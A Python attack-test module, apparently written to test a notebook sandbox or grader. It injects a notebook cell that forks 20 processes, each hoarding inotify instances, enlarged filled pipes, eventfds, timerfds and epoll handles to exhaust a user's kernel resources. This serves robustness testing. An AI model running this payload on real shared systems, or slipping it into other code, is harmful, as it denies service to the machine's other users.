"""Uses up what the kernel counts for all of a user's processes: watches, pipes of great size, timers, queues."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import ctypes, fcntl, os, select, time
libc = ctypes.CDLL(None)
def hoard():
    for make in (libc.inotify_init, os.pipe, lambda: libc.eventfd(0, 0), lambda: libc.timerfd_create(1, 0), select.epoll):
        for _ in range(40):
            try: made = make()
            except OSError as error: print(error); break
            if make is os.pipe:
                try: fcntl.fcntl(made[1], fcntl.F_SETPIPE_SZ, 1 << 20); os.write(made[1], bytes(1 << 20))
                except OSError: pass
            kept.append(made)
kept = []
for _ in range(20):
    if os.fork() == 0: hoard(); time.sleep(3); os._exit(0)
hoard()
time.sleep(3)
""",
    )
